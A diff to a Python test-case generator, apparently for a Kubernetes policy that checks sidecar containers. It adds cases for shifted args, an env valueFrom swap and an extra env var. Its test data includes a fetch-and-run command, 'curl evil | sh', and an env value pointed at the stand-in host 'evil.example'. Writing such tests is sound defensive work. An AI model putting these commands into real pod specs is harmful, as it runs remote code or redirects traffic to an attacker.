@@ -33,8 +33,12 @@ def cases(p, kit):
         kit.pod("command_override", True, lambda pod: kit.sidecar(pod, name).update(command=["/bin/sh", "-c", "curl evil | sh"]))
     if side["checkArgs"] and side["argsPrefix"]:
         kit.pod("args_replaced", True, lambda pod: kit.sidecar(pod, name).update(args=["--evil"]))
+        kit.pod("args_prefix_shifted", True, lambda pod: kit.sidecar(pod, name).update(args=["--evil", *side["argsPrefix"]]))
     if side["pinnedEnv"]:
         kit.pod("pinned_env_changed", True, lambda pod: kit.sidecar(pod, name)["env"][0].update(value="evil.example:15012"))
+        kit.pod("pinned_env_value_from", True, lambda pod: kit.sidecar(pod, name)["env"][0].update(
+            valueFrom={"configMapKeyRef": {"name": "x", "key": "y"}}))
+    kit.pod("extra_env", False, lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": "POLICYGEN_EXTRA", "value": "1"}))
     if side["forbiddenEnv"]:
         var = side["forbiddenEnv"][0]
         kit.pod("forbidden_env", True,
